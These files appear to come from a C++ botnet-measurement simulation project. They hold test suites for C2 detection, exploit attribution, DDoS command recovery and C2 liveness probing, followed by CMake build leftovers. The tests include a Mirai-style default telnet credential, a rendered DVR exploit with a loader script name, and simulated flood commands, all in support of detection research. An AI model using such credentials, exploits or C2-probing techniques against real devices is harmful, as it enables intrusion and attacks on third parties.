  s1.sha256 = "aa";
  s1.day = 3;
  s1.c2_addresses = {"60.1.1.1"};
  core::SampleRecord s2;
  s2.sha256 = "bb";
  s2.day = 5;
  s2.c2_addresses = {"60.2.2.2"};
  r.d_samples = {s1, s2};
  return r;
}
}  // namespace

TEST(Summary, LifespanStatsOnTinyDataset) {
  const auto ls = lifespan_stats(tiny_results());
  EXPECT_EQ(ls.ip_lifetimes.count(), 1u);
  EXPECT_DOUBLE_EQ(ls.mean_days, 5.0);     // days 3..7
  EXPECT_DOUBLE_EQ(ls.one_day_fraction, 0.0);
  EXPECT_DOUBLE_EQ(ls.dead_on_arrival, 0.5);  // sample bb's C2 never live
}

TEST(Summary, TiStatsOnTinyDataset) {
  const auto ti = ti_stats(tiny_results());
  EXPECT_DOUBLE_EQ(ti.miss_all_same_day, 0.5);
  EXPECT_DOUBLE_EQ(ti.miss_all_requery, 0.0);
  EXPECT_EQ(ti.vendors_per_c2.count(), 1u);
}

TEST(Summary, SharingStatsOnTinyDataset) {
  const auto sh = sharing_stats(tiny_results());
  EXPECT_DOUBLE_EQ(sh.multi_sample_fraction, 0.5);
  EXPECT_EQ(sh.samples_per_c2_ip.count(), 2u);
}

TEST(Summary, ProbeStatsSecondProbeMath) {
  core::ProbeCampaignResult pc2;
  pc2.rounds = 6;
  // Response pattern: # . # . . # — successes with a next probe: rounds
  // 0 (miss after), 2 (miss after); round 5 has no successor.
  pc2.raster[{net::Ipv4{1, 1, 1, 1}, 23}] = {true, false, true, false, false, true};
  const auto ps = probe_stats(pc2, 6);
  EXPECT_EQ(ps.targets, 1);
  EXPECT_DOUBLE_EQ(ps.second_probe_nonresponse, 1.0);
  EXPECT_EQ(ps.days_with_all_probes_answered, 0);
  EXPECT_DOUBLE_EQ(ps.response_rate, 0.5);

  core::ProbeCampaignResult always;
  always.rounds = 6;
  always.raster[{net::Ipv4{1, 1, 1, 1}, 23}] = std::vector<bool>(6, true);
  const auto pa = probe_stats(always, 6);
  EXPECT_DOUBLE_EQ(pa.second_probe_nonresponse, 0.0);
  EXPECT_EQ(pa.days_with_all_probes_answered, 1);
}

TEST(Summary, WeeklyCountsUseStudyWeeks) {
  const auto weekly = weekly_as_counts(tiny_results());
  // Discovery days 3 and 5 both fall in study week 1.
  EXPECT_EQ(weekly.at({1, 36352u}), 1);
  EXPECT_EQ(weekly.at({1, 14061u}), 1);
}

// --- emitters over a real (small) pipeline run ------------------------------------


TEST(Emitters, AllTablesAndFiguresRenderNonEmpty) {
  core::PipelineConfig cfg;
  cfg.seed = 5;
  cfg.world.total_samples = 200;
  cfg.probe_rounds = 12;
  core::Pipeline pipe(cfg);
  const auto results = pipe.run();
  const auto& asdb = pipe.asdb();

  const std::vector<std::pair<const char*, std::string>> blocks = {
      {"Table 1", table1_datasets(results)},
      {"Table 2", table2_top_ases(results, asdb)},
      {"Table 3", table3_ti_miss(results)},
      {"Table 4", table4_vulnerabilities(results)},
      {"Table 7", table7_vendors(results, pipe.ti(), 404)},
      {"Figure 1", figure1_heatmap(results, asdb)},
      {"Figure 2", figure2_lifetime_ip(results)},
      {"Figure 3", figure3_lifetime_domain(results)},
      {"Figure 4", figure4_probe_raster(results)},
      {"Figure 5", figure5_samples_per_c2(results)},
      {"Figure 6", figure6_samples_per_domain(results)},
      {"Figure 7", figure7_vendor_cdf(results)},
      {"Figure 8", figure8_vuln_timeseries(results)},
      {"Figure 9", figure9_loaders(results)},
      {"Figure 10", figure10_ddos_protocols(results, asdb)},
      {"Figure 11", figure11_ddos_types(results, asdb)},
      {"Figure 12", figure12_targets(results, asdb)},
      {"Figure 13", figure13_as_cdf(results)},
  };
  for (const auto& [name, text] : blocks) {
    EXPECT_GT(text.size(), 40u) << name << " rendered nearly empty";
    EXPECT_NE(text.find(name), std::string::npos)
        << name << " must label itself:\n"
        << text;
  }
  // Key paper markers present.
  EXPECT_NE(blocks[0].second.find("D-Samples"), std::string::npos);
  EXPECT_NE(blocks[2].second.find("DNS-based"), std::string::npos);
  EXPECT_NE(blocks[3].second.find("CVE-2018-10561"), std::string::npos);
}

TEST(Emitters, FigureSeriesExportCoversEveryFigure) {
  core::PipelineConfig cfg;
  cfg.seed = 6;
  cfg.world.total_samples = 150;
  cfg.probe_rounds = 12;
  core::Pipeline pipe(cfg);
  const auto results = pipe.run();

  const auto series = export_figure_series(results, pipe.asdb());
  for (int fig = 1; fig <= 13; ++fig) {
    bool found = false;
    for (const auto& [name, content] : series) {
      if (name.rfind("fig" + std::to_string(fig) + "_", 0) == 0) {
        found = true;
        EXPECT_GT(content.size(), 10u) << name;
        // Header plus at least one data row for the populated figures.
        EXPECT_NE(content.find('\n'), std::string::npos) << name;
      }
    }
    EXPECT_TRUE(found) << "no series exported for figure " << fig;
  }

  // Files land on disk and parse as CSV (header width == row width is
  // enforced by CsvWriter at generation time; here we check round-trip).
  const auto dir = ::testing::TempDir();
  EXPECT_EQ(write_figure_series(results, pipe.asdb(), dir), series.size());
  std::ifstream f(dir + "/fig13_as_rank.csv");
  ASSERT_TRUE(f.good());
  std::string header;
  std::getline(f, header);
  EXPECT_EQ(header, "rank,asn,c2_count,cumulative_fraction");
}

TEST(DatasetIo, RoundTripIsLossless) {
  core::PipelineConfig cfg;
  cfg.seed = 4;
  cfg.world.total_samples = 150;
  cfg.probe_rounds = 12;
  core::Pipeline pipe(cfg);
  const auto results = pipe.run();

  const auto bytes = serialize_datasets(results);
  const auto parsed = parse_datasets(bytes);
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->d_samples.size(), results.d_samples.size());
  EXPECT_EQ(parsed->d_c2s.size(), results.d_c2s.size());
  EXPECT_EQ(parsed->d_exploits.size(), results.d_exploits.size());
  EXPECT_EQ(parsed->d_ddos.size(), results.d_ddos.size());
  EXPECT_EQ(parsed->downloader_hosts, results.downloader_hosts);
  EXPECT_EQ(parsed->sim_events, results.sim_events);

  // Spot-check a C2 record field-by-field.
  auto ita = results.d_c2s.begin();
  auto itb = parsed->d_c2s.begin();
  for (; ita != results.d_c2s.end(); ++ita, ++itb) {
    EXPECT_EQ(ita->first, itb->first);
    EXPECT_EQ(ita->second.referred_days, itb->second.referred_days);
    EXPECT_EQ(ita->second.live_days, itb->second.live_days);
    EXPECT_EQ(ita->second.asn, itb->second.asn);
    EXPECT_EQ(ita->second.vt_vendors_same_day, itb->second.vt_vendors_same_day);
  }

  // Every summary statistic must be identical after the round trip.
  const auto before = check_claims(results, pipe.asdb());
  const auto after = check_claims(*parsed, pipe.asdb());
  ASSERT_EQ(before.size(), after.size());
  for (std::size_t i = 0; i < before.size(); ++i) {
    EXPECT_DOUBLE_EQ(before[i].measured, after[i].measured) << before[i].id;
  }

  // File round trip + corruption rejection.
  const auto path = ::testing::TempDir() + "/study.mds";
  save_datasets(results, path);
  const auto loaded = load_datasets(path);
  EXPECT_EQ(loaded.d_c2s.size(), results.d_c2s.size());
  auto corrupt = bytes;
  corrupt[0] ^= 0xFF;
  EXPECT_FALSE(parse_datasets(corrupt));
  corrupt = bytes;
  corrupt.pop_back();
  EXPECT_FALSE(parse_datasets(corrupt));
}

TEST(Dossier, FullAttributionChain) {
  // The paper's core pitch (§1): one C2 address links back to binaries,
  // exploits and launched attacks. Built on a run known to contain attacks.
  core::PipelineConfig cfg;
  cfg.seed = 22;
  cfg.world.total_samples = 300;
  cfg.run_probe_campaign = false;
  core::Pipeline pipe(cfg);
  const auto results = pipe.run();
  ASSERT_FALSE(results.d_ddos.empty());

  const std::string attacker = results.d_ddos.front().c2_address;
  const auto dossier = build_c2_dossier(results, pipe.asdb(), attacker);
  ASSERT_TRUE(dossier);
  EXPECT_FALSE(dossier->samples.empty()) << "attribution must reach the binary";
  EXPECT_FALSE(dossier->attacks.empty());
  ASSERT_TRUE(dossier->as_info);
  const auto text = render_dossier(*dossier);
  EXPECT_NE(text.find(attacker), std::string::npos);
  EXPECT_NE(text.find("attacks issued"), std::string::npos);
  EXPECT_NE(text.find("hosted at AS"), std::string::npos);

  // And the reverse direction: sample -> C2s -> attacks.
  const auto sample = build_sample_dossier(results, dossier->samples.front().sha256);
  ASSERT_TRUE(sample);
  EXPECT_FALSE(sample->c2s.empty());
  const auto sample_text = render_dossier(*sample);
  EXPECT_NE(sample_text.find("C2 infrastructure"), std::string::npos);

  EXPECT_FALSE(build_c2_dossier(results, pipe.asdb(), "no.such.host"));
  EXPECT_FALSE(build_sample_dossier(results, "ffff"));
}

TEST(Digest, WeeklyDigestsCoverTheStudy) {
  core::PipelineConfig cfg;
  cfg.seed = 22;
  cfg.world.total_samples = 300;
  cfg.run_probe_campaign = false;
  core::Pipeline pipe(cfg);
  const auto results = pipe.run();

  const auto digests = build_all_digests(results);
  ASSERT_FALSE(digests.empty());
  int total_samples = 0, total_c2s = 0, total_attacks = 0;
  for (const auto& d : digests) {
    total_samples += d.new_samples;
    total_c2s += static_cast<int>(d.new_c2s.size());
    total_attacks += d.attacks;
    EXPECT_GE(d.week, 1);
    EXPECT_LE(d.week, 31);
  }
  // Every sample/C2/attack lands in exactly one week.
  EXPECT_EQ(total_samples, static_cast<int>(results.d_samples.size()));
  EXPECT_EQ(total_c2s, static_cast<int>(results.d_c2s.size()));
  EXPECT_EQ(total_attacks, static_cast<int>(results.d_ddos.size()));

  const auto text = render_digest(digests.front());
  EXPECT_NE(text.find("weekly digest"), std::string::npos);
  EXPECT_NE(text.find("new binaries analysed"), std::string::npos);
}
