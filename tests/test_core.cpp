// core analysis components: C2 detection, exploit attribution, DDoS command
// recovery, liveness probing.
#include <gtest/gtest.h>

#include "botnet/c2server.hpp"
#include "core/c2detect.hpp"
#include "core/ddos.hpp"
#include "core/exploit_id.hpp"
#include "botnet/probe_world.hpp"
#include "core/prober.hpp"
#include "dns/message.hpp"
#include "emu/attackgen.hpp"
#include "emu/sandbox.hpp"
#include "inetsim/services.hpp"
#include "mal/binary.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/gafgyt.hpp"
#include "proto/mirai.hpp"

using namespace malnet;
using namespace malnet::core;

namespace {
constexpr net::Ipv4 kMartian{10, 99, 7, 7};

net::Packet syn_to(net::Ipv4 dst, net::Port port, net::Port src_port,
                   std::int64_t t_ms = 0) {
  net::Packet p;
  p.time = util::SimTime{t_ms * 1000};
  p.src = net::Ipv4{10, 77, 0, 16};
  p.dst = dst;
  p.proto = net::Protocol::kTcp;
  p.src_port = src_port;
  p.dst_port = port;
  p.flags.syn = true;
  return p;
}
}  // namespace

TEST(C2Detect, FindsBeaconingIpEndpoint) {
  emu::SandboxReport report;
  for (int i = 0; i < 3; ++i) {
    report.capture.push_back(
        syn_to(net::Ipv4{60, 1, 1, 1}, 23, static_cast<net::Port>(50000 + i), i * 25000));
  }
  const auto cands = detect_c2(report, kMartian);
  ASSERT_EQ(cands.size(), 1u);
  EXPECT_EQ(cands[0].address, "60.1.1.1");
  EXPECT_FALSE(cands[0].is_dns);
  EXPECT_EQ(cands[0].port, 23);
  EXPECT_EQ(cands[0].connection_attempts, 3);
}

TEST(C2Detect, SingleContactIsNotC2) {
  emu::SandboxReport report;
  report.capture.push_back(syn_to(net::Ipv4{60, 1, 1, 1}, 23, 50000));
  EXPECT_TRUE(detect_c2(report, kMartian).empty());
}

TEST(C2Detect, ScanSweepIsSuppressedButC2OnSamePortSurvives) {
  emu::SandboxReport report;
  // A telnet sweep: 30 distinct destinations, one SYN each.
  for (int i = 0; i < 30; ++i) {
    report.capture.push_back(syn_to(net::Ipv4{20, 0, 0, static_cast<std::uint8_t>(i)},
                                    23, static_cast<net::Port>(51000 + i)));
  }
  // The C2, also on 23/tcp, retried four times.
  for (int i = 0; i < 4; ++i) {
    report.capture.push_back(
        syn_to(net::Ipv4{60, 1, 1, 1}, 23, static_cast<net::Port>(52000 + i)));
  }
  const auto cands = detect_c2(report, kMartian);
  ASSERT_EQ(cands.size(), 1u);
  EXPECT_EQ(cands[0].address, "60.1.1.1");
}

TEST(C2Detect, AttributesDomainViaDnsAnswer) {
  emu::SandboxReport report;
  // Inbound DNS answer: cnc.example -> martian.
  net::Packet answer;
  answer.time = util::SimTime{1000};
  answer.src = net::Ipv4{1, 1, 1, 1};
  answer.src_port = 53;
  answer.dst = net::Ipv4{10, 77, 0, 16};
  answer.proto = net::Protocol::kUdp;
  const auto q = dns::make_query(9, "cnc.example");
  answer.payload = dns::encode(dns::make_response(q, kMartian));
  report.capture.push_back(answer);
  for (int i = 0; i < 3; ++i) {
    report.capture.push_back(
        syn_to(kMartian, 666, static_cast<net::Port>(50000 + i), 10 + i));
  }
  const auto cands = detect_c2(report, kMartian);
  ASSERT_EQ(cands.size(), 1u);
  EXPECT_TRUE(cands[0].is_dns);
  EXPECT_EQ(cands[0].address, "cnc.example");
  EXPECT_EQ(cands[0].port, 666);
}

TEST(C2Detect, PrimaryBeforeFallbackOnEqualAttempts) {
  emu::SandboxReport report;
  // Fallback contacted later with the same attempt count.
  for (int i = 0; i < 3; ++i) {
    report.capture.push_back(
        syn_to(net::Ipv4{60, 1, 1, 1}, 23, static_cast<net::Port>(50000 + i), i));
  }
  for (int i = 0; i < 3; ++i) {
    report.capture.push_back(
        syn_to(net::Ipv4{60, 2, 2, 2}, 666, static_cast<net::Port>(51000 + i), 100 + i));
  }
  const auto cands = detect_c2(report, kMartian);
  ASSERT_EQ(cands.size(), 2u);
  EXPECT_EQ(cands[0].address, "60.1.1.1") << "primary (contacted first) must rank first";
  EXPECT_EQ(cands[1].address, "60.2.2.2");
}

TEST(ExploitId, AttributesAndDeduplicates) {
  const auto& vdb = vulndb::VulnDatabase::instance();
  emu::SandboxReport report;
  for (int i = 0; i < 5; ++i) {
    emu::ExploitCapture cap;
    cap.port = 60001;
    cap.original_dst = net::Ipv4{20, 0, 0, static_cast<std::uint8_t>(i)};
    cap.payload = util::to_bytes(
        vdb.render_exploit(vulndb::VulnId::kMvpowerDvr, "60.9.9.9", "jaws.sh"));
    report.exploits.push_back(cap);
  }
  emu::ExploitCapture telnet;
  telnet.port = 23;
  telnet.payload = util::to_bytes("root\r\nvizxv\r\n");
  report.exploits.push_back(telnet);

  std::vector<util::Bytes> unattributed;
  const auto findings = identify_exploits(report, &unattributed);
  ASSERT_EQ(findings.size(), 1u);  // deduplicated per vulnerability
  EXPECT_EQ(findings[0].vuln, vulndb::VulnId::kMvpowerDvr);
  EXPECT_EQ(findings[0].downloader_host, "60.9.9.9");
  EXPECT_EQ(findings[0].loader_name, "jaws.sh");
  EXPECT_EQ(unattributed.size(), 1u);
}

// --- DDoS detection -------------------------------------------------------------

namespace {
constexpr net::Endpoint kC2{net::Ipv4{60, 1, 1, 1}, 23};

emu::SandboxReport make_live_report(const util::Bytes& command_payload,
                                    net::Ipv4 target, net::Port target_port,
                                    int flood_packets, net::Protocol flood_proto,
                                    util::Bytes flood_payload = {0x00}) {
  emu::SandboxReport report;
  net::Packet cmd;
  cmd.time = util::SimTime{1'000'000};
  cmd.src = kC2.ip;
  cmd.src_port = kC2.port;
  cmd.dst = net::Ipv4{10, 77, 0, 16};
  cmd.proto = net::Protocol::kTcp;
  cmd.payload = command_payload;
  report.capture.push_back(cmd);
  for (int i = 0; i < flood_packets; ++i) {
    net::Packet p;
    p.time = util::SimTime{2'000'000 + i * 5'000};  // 200 pps
    p.src = net::Ipv4{10, 77, 0, 16};
    p.dst = target;
    p.proto = flood_proto;
    p.dst_port = target_port;
    if (flood_proto == net::Protocol::kIcmp) p.icmp = {3, 3};
    p.payload = flood_payload;
    report.capture.push_back(p);
  }
  return report;
}
}  // namespace

TEST(DdosDetect, ProfileMethodDecodesMiraiCommand) {
  proto::AttackCommand cmd;
  cmd.type = proto::AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{7, 7, 7, 7}, 8080};
  cmd.duration_s = 30;
  const auto report = make_live_report(proto::mirai::encode_attack(cmd),
                                       cmd.target.ip, 8080, 400, net::Protocol::kUdp);
  const auto dets = detect_ddos(report, kC2, proto::Family::kMirai);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_EQ(dets[0].method, DdosMethod::kProtocolProfile);
  EXPECT_TRUE(dets[0].verified);
  EXPECT_EQ(dets[0].command.target, cmd.target);
  EXPECT_GE(dets[0].observed_pps, 100.0);
}

TEST(DdosDetect, ProfileMethodUnverifiedWithoutFlood) {
  proto::AttackCommand cmd;
  cmd.type = proto::AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{7, 7, 7, 7}, 8080};
  const auto report = make_live_report(proto::mirai::encode_attack(cmd),
                                       net::Ipv4{9, 9, 9, 9}, 8080, 5,
                                       net::Protocol::kUdp);
  const auto dets = detect_ddos(report, kC2, proto::Family::kMirai);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_FALSE(dets[0].verified) << "bot never flooded the commanded target";
}

TEST(DdosDetect, ProfileMethodDecodesTextFamilies) {
  proto::AttackCommand cmd;
  cmd.type = proto::AttackType::kStd;
  cmd.target = {net::Ipv4{7, 7, 7, 7}, 9999};
  cmd.duration_s = 60;
  auto report = make_live_report(util::to_bytes(proto::gafgyt::encode_attack(cmd)),
                                 cmd.target.ip, 9999, 300, net::Protocol::kUdp,
                                 util::to_bytes("RANDOMSTRINGRANDOMSTRINGRANDOMST"));
  auto dets = detect_ddos(report, kC2, proto::Family::kGafgyt);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_EQ(dets[0].command.type, proto::AttackType::kStd);
  EXPECT_EQ(dets[0].command.family, proto::Family::kGafgyt);

  cmd.type = proto::AttackType::kBlacknurse;
  cmd.target.port = 0;
  report = make_live_report(util::to_bytes(proto::daddyl33t::encode_attack(cmd)),
                            cmd.target.ip, 0, 300, net::Protocol::kIcmp);
  dets = detect_ddos(report, kC2, proto::Family::kDaddyl33t);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_EQ(dets[0].command.type, proto::AttackType::kBlacknurse);
  EXPECT_TRUE(dets[0].verified);
}

TEST(DdosDetect, HeuristicCatchesUnknownVariantAndVerifiesTargetInCommand) {
  // A command in an unprofiled grammar ("SMASH <ip> ...") followed by a
  // high-rate flood: method (b) must reconstruct it (§2.5b).
  const auto report = make_live_report(util::to_bytes("SMASH 7.7.7.7 8080 60\n"),
                                       net::Ipv4{7, 7, 7, 7}, 8080, 400,
                                       net::Protocol::kUdp);
  const auto dets = detect_ddos(report, kC2, std::nullopt);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_EQ(dets[0].method, DdosMethod::kBehaviouralHeuristic);
  EXPECT_TRUE(dets[0].verified);  // "7.7.7.7" appears in the command text
  EXPECT_EQ(dets[0].command.type, proto::AttackType::kUdpFlood);
}

TEST(DdosDetect, HeuristicVerifiesBinaryIpRepresentation) {
  util::Bytes cmd = util::to_bytes("BLAST:");
  cmd.push_back(7);
  cmd.push_back(7);
  cmd.push_back(7);
  cmd.push_back(7);
  const auto report =
      make_live_report(cmd, net::Ipv4{7, 7, 7, 7}, 8080, 400, net::Protocol::kUdp);
  const auto dets = detect_ddos(report, kC2, std::nullopt);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_TRUE(dets[0].verified);
}

TEST(DdosDetect, HeuristicRespectsPpsThreshold) {
  // Scan-rate traffic (~10 pps) must not trigger the heuristic.
  emu::SandboxReport report = make_live_report(util::to_bytes("chatter\n"),
                                               net::Ipv4{7, 7, 7, 7}, 8080, 0,
                                               net::Protocol::kUdp);
  for (int i = 0; i < 50; ++i) {
    net::Packet p;
    p.time = util::SimTime{2'000'000 + i * 100'000};  // 10 pps
    p.src = net::Ipv4{10, 77, 0, 16};
    p.dst = net::Ipv4{7, 7, 7, 7};
    p.proto = net::Protocol::kUdp;
    p.dst_port = 8080;
    p.payload = {0x00};
    report.capture.push_back(p);
  }
  EXPECT_TRUE(detect_ddos(report, kC2, std::nullopt).empty());
}

class TrafficClassification
    : public ::testing::TestWithParam<std::pair<proto::AttackType, const char*>> {};

TEST_P(TrafficClassification, HeuristicInfersTypeFromWireShape) {
  const auto [expected_type, _] = GetParam();
  emu::SandboxReport report;
  net::Packet cmd;
  cmd.time = util::SimTime{0};
  cmd.src = kC2.ip;
  cmd.src_port = kC2.port;
  cmd.proto = net::Protocol::kTcp;
  cmd.payload = util::to_bytes("X 7.7.7.7 1 1\n");
  report.capture.push_back(cmd);

  sim::EventScheduler sched;
  sim::Network net{sched};
  sim::Host bot(net, net::Ipv4{10, 77, 0, 16});
  bot.set_tap([&](const net::Packet& p, bool outbound) {
    if (outbound) report.capture.push_back(p);
  });
  proto::AttackCommand atk;
  atk.type = expected_type;
  atk.target = {net::Ipv4{7, 7, 7, 7},
                expected_type == proto::AttackType::kBlacknurse ? net::Port{0}
                                                                : net::Port{8080}};
  atk.duration_s = 5;
  emu::AttackGenOptions gen;
  gen.pps = 300;
  gen.max_duration = sim::Duration::seconds(2);
  util::Rng rng(1);
  emu::launch_attack(bot, atk, gen, rng);
  sched.run();

  const auto dets = detect_ddos(report, kC2, std::nullopt);
  ASSERT_EQ(dets.size(), 1u);
  EXPECT_EQ(dets[0].command.type, expected_type);
}

INSTANTIATE_TEST_SUITE_P(
    AllShapes, TrafficClassification,
    ::testing::Values(std::pair{proto::AttackType::kUdpFlood, "udp"},
                      std::pair{proto::AttackType::kSynFlood, "syn"},
                      std::pair{proto::AttackType::kTls, "tls"},
                      std::pair{proto::AttackType::kStomp, "stomp"},
                      std::pair{proto::AttackType::kVse, "vse"},
                      std::pair{proto::AttackType::kStd, "std"},
                      std::pair{proto::AttackType::kBlacknurse, "nurse"},
                      std::pair{proto::AttackType::kNfo, "nfo"}),
    [](const auto& info) { return std::string(info.param.second); });

// --- prober ---------------------------------------------------------------------

TEST(Prober, BannerHostsAreFilteredFromEngagements) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  emu::Sandbox sandbox(net);
  inetsim::BannerHost apache(net, net::Ipv4{198, 18, 0, 10}, 81,
                             "HTTP/1.1 400 Bad Request\r\nServer: Apache\r\n\r\n");
  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  bin.behavior.c2_port = 23;
  util::Rng rng(2);
  const Weapon weapon{mal::forge(bin, rng), {net::Ipv4{60, 1, 1, 1}, 23}};

  bool done = false;
  LivenessResult result;
  probe_liveness(sandbox, weapon, {apache.addr(), 81}, [&](LivenessResult r) {
    done = true;
    result = r;
  });
  sched.run_until(sched.now() + sim::Duration::minutes(3));
  ASSERT_TRUE(done);
  EXPECT_FALSE(result.engaged) << "well-known banners are not C2s (§2.6)";
  EXPECT_FALSE(result.first_data.empty());
}

TEST(ProbeCampaign, MiniCampaignProducesRaster) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  emu::Sandbox sandbox(net);

  botnet::ProbeWorldConfig wc;
  wc.subnet_count = 2;
  wc.c2_count = 2;
  wc.banner_hosts_per_subnet = 2;
  wc.accept_prob = 1.0;
  wc.mean_dormancy = sim::Duration::minutes(5);
  auto world = botnet::build_probe_world(net, wc);

  // Weapons matching the world's families, aimed at dummy hints.
  std::vector<Weapon> weapons;
  for (const auto family : {proto::Family::kGafgyt, proto::Family::kMirai}) {
    mal::MbfBinary bin;
    bin.behavior.family = family;
    bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
    bin.behavior.c2_port = 23;
    util::Rng rng(static_cast<std::uint64_t>(family));
    weapons.push_back(Weapon{mal::forge(bin, rng), {net::Ipv4{60, 1, 1, 1}, 23}});
  }

  ProbeCampaignConfig pc;
  for (const auto& s : world.subnets) pc.subnets.push_back(s);
  pc.ports = botnet::table5_ports();
  pc.rounds = 3;
  pc.interval = sim::Duration::hours(4);

  bool done = false;
  ProbeCampaignResult result;
  ProbeCampaign campaign(net, sandbox, pc, std::move(weapons),
                         [&](ProbeCampaignResult r) {
                           done = true;
                           result = std::move(r);
                         });
  campaign.start();
  sched.run_until(sched.now() + sim::Duration::hours(16));
  ASSERT_TRUE(done);
  EXPECT_EQ(result.rounds, 3);
  EXPECT_GT(result.scout_probes, 10000u);  // 2 x 254 x 12 per round
  EXPECT_GT(result.banner_filtered, 0u);
  // Both C2s should be discovered with accept_prob 1.
  EXPECT_EQ(result.raster.size(), 2u);
  for (const auto& [ep, bits] : result.raster) {
    EXPECT_EQ(bits.size(), 3u);
    EXPECT_TRUE(bits[0]);  // first round: fresh server, always-on
  }
}

TEST(C2Detect, BenignTelemetryBeaconsAreFilteredByDefault) {
  // A sample with a benign periodic HTTP beacon (IP-echo style): the
  // classifier must keep the real C2 and drop the beacon — the precision
  // lesson behind CnCHunter's ~90% figure.
  sim::EventScheduler sched;
  sim::Network net(sched);
  emu::Sandbox sandbox(net);

  mal::MbfBinary bin;
  bin.behavior.family = proto::Family::kMirai;
  bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
  bin.behavior.c2_port = 23;
  bin.behavior.telemetry_domain = "api.ip-echo.net";
  util::Rng rng(77);

  emu::SandboxReport report;
  sandbox.start(mal::forge(bin, rng), {}, [&](const emu::SandboxReport& r) {
    report = r;
  });
  sched.run_until(sched.now() + sim::Duration::minutes(12));

  const auto cands = detect_c2(report, sandbox.martian());
  ASSERT_EQ(cands.size(), 1u);
  EXPECT_EQ(cands[0].address, "60.1.1.1");

  C2DetectOptions naive;
  naive.filter_http_flows = false;
  const auto naive_cands = detect_c2(report, sandbox.martian(), naive);
  ASSERT_EQ(naive_cands.size(), 2u) << "naive classifier must also flag the beacon";
  bool beacon_found = false;
  for (const auto& c : naive_cands) beacon_found |= c.address == "api.ip-echo.net";
  EXPECT_TRUE(beacon_found);
}
