# Empty compiler generated dependencies file for c2_hunt.
# This may be replaced when dependencies are built.
