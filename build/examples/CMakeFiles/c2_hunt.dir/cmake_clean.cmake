file(REMOVE_RECURSE
  "CMakeFiles/c2_hunt.dir/c2_hunt.cpp.o"
  "CMakeFiles/c2_hunt.dir/c2_hunt.cpp.o.d"
  "c2_hunt"
  "c2_hunt.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/c2_hunt.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
