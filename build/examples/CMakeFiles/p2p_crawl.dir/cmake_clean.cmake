file(REMOVE_RECURSE
  "CMakeFiles/p2p_crawl.dir/p2p_crawl.cpp.o"
  "CMakeFiles/p2p_crawl.dir/p2p_crawl.cpp.o.d"
  "p2p_crawl"
  "p2p_crawl.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/p2p_crawl.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
