# Empty dependencies file for p2p_crawl.
# This may be replaced when dependencies are built.
