file(REMOVE_RECURSE
  "CMakeFiles/ddos_watch.dir/ddos_watch.cpp.o"
  "CMakeFiles/ddos_watch.dir/ddos_watch.cpp.o.d"
  "ddos_watch"
  "ddos_watch.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ddos_watch.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
