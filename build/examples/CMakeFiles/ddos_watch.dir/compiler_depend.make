# Empty compiler generated dependencies file for ddos_watch.
# This may be replaced when dependencies are built.
