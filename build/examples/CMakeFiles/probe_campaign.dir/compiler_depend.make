# Empty compiler generated dependencies file for probe_campaign.
# This may be replaced when dependencies are built.
