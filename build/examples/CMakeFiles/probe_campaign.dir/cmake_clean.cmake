file(REMOVE_RECURSE
  "CMakeFiles/probe_campaign.dir/probe_campaign.cpp.o"
  "CMakeFiles/probe_campaign.dir/probe_campaign.cpp.o.d"
  "probe_campaign"
  "probe_campaign.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/probe_campaign.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
