file(REMOVE_RECURSE
  "CMakeFiles/intel_export.dir/intel_export.cpp.o"
  "CMakeFiles/intel_export.dir/intel_export.cpp.o.d"
  "intel_export"
  "intel_export.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/intel_export.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
