# Empty dependencies file for intel_export.
# This may be replaced when dependencies are built.
