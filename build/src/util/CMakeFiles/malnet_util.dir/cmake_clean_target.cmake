file(REMOVE_RECURSE
  "libmalnet_util.a"
)
