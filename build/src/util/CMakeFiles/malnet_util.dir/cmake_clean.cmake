file(REMOVE_RECURSE
  "CMakeFiles/malnet_util.dir/bytes.cpp.o"
  "CMakeFiles/malnet_util.dir/bytes.cpp.o.d"
  "CMakeFiles/malnet_util.dir/csv.cpp.o"
  "CMakeFiles/malnet_util.dir/csv.cpp.o.d"
  "CMakeFiles/malnet_util.dir/log.cpp.o"
  "CMakeFiles/malnet_util.dir/log.cpp.o.d"
  "CMakeFiles/malnet_util.dir/rng.cpp.o"
  "CMakeFiles/malnet_util.dir/rng.cpp.o.d"
  "CMakeFiles/malnet_util.dir/simtime.cpp.o"
  "CMakeFiles/malnet_util.dir/simtime.cpp.o.d"
  "CMakeFiles/malnet_util.dir/stats.cpp.o"
  "CMakeFiles/malnet_util.dir/stats.cpp.o.d"
  "CMakeFiles/malnet_util.dir/str.cpp.o"
  "CMakeFiles/malnet_util.dir/str.cpp.o.d"
  "libmalnet_util.a"
  "libmalnet_util.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/malnet_util.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
