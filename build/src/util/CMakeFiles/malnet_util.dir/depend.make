# Empty dependencies file for malnet_util.
# This may be replaced when dependencies are built.
