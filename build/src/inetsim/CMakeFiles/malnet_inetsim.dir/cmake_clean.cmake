file(REMOVE_RECURSE
